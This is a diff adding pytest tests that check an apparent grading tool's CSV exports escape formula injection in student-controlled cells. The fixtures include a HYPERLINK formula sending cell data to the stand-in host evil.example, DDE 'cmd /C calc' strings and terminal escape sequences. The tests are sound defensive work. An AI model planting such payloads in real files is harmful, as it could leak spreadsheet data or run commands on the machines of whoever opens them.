@@ -258,3 +258,59 @@ def test_a_fence_cannot_be_closed_by_the_text_inside():
     block = fenced(text)
     assert block.startswith("````\n") and block.endswith("\n````")
     assert fenced_lines(block) == text.splitlines()
+
+
+# -- CSV formula injection (issue 21): OWASP's rule on every cell of every CSV written ------
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_csv_cells_that_start_like_a_formula_are_neutralised():
+    from autograde.exports import csv_cell
+    cases = {FORMULA: "'" + FORMULA, "+1+1": "'+1+1", "-cmd|' /C calc'!A0": "'-cmd|' /C calc'!A0",
+             "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'=1",
+             "\x1b]0;pwned\x07=1": "]0;pwned=1", "a=b": "a=b", "passed": "passed", "": ""}
+    for text, expected in cases.items():
+        assert csv_cell(text) == expected, text
+    # numbers stay numbers, negative ones too (as values, and as the text nbgrader writes)
+    for number in (-1.5, 0.0, 3, "-1.5", "-2", "+3e5", "2.0", ".5"):
+        assert csv_cell(number) == number
+
+
+def test_tests_csv_neutralises_every_student_controlled_cell(tmp_path):
+    import csv
+
+    from autograde.exports import export_tests
+    evil = NotebookResult("=1+1", A1, A1, "graded", tests=[
+        verdicts.TestResult("@test_scores", 0.0, 2.0, "failed",
+                            f"{FORMULA}: raised by the student's code\nsecond line"),
+        verdicts.TestResult("test_sdpa", -1.0, 3.0, "failed", "-1 is " + ESCAPE + "wrong")])
+    path = export_tests({("=1+1", A1): evil}, tmp_path / "tests.csv")
+    with open(path, newline="") as handle:
+        rows = list(csv.reader(handle))
+    assert rows[1:] == [
+        ["'=1+1", A1, "'@test_scores", "0.0", "2.0", "failed",
+         f"'{FORMULA}: raised by the student's code"],
+        ["'=1+1", A1, "test_sdpa", "-1.0", "3.0", "failed", "'-1 is [2J[31mwrong"]]
+
+
+def test_grades_csv_neutralises_what_nbgrader_writes(tmp_path):
+    import csv
+
+    from nbgrader.api import Gradebook
+
+    from autograde.exports import export_grades
+    url = f"sqlite:///{tmp_path / 'gradebook.db'}"
+    with Gradebook(url) as gradebook:
+        gradebook.add_assignment(A1)
+        gradebook.add_student("=cmd|' /C calc'!A0", first_name="@SUM(1)",
+                              last_name="-2+3", email="\x1b[2J+x@example.org")
+    path = export_grades(tmp_path, tmp_path / "grades.csv", url)
+    with open(path, newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert len(rows) == 1
+    row = rows[0]
+    assert (row["student_id"], row["first_name"], row["last_name"], row["email"]) == (
+        "'=cmd|' /C calc'!A0", "'@SUM(1)", "'-2+3", "[2J+x@example.org")
+    assert row["raw_score"] in ("0.0", "0") and row["max_score"] in ("0.0", "0")
+    assert not any(str(cell).startswith(("=", "+", "-", "@", "\t", "\r"))
+                   for cell in row.values())
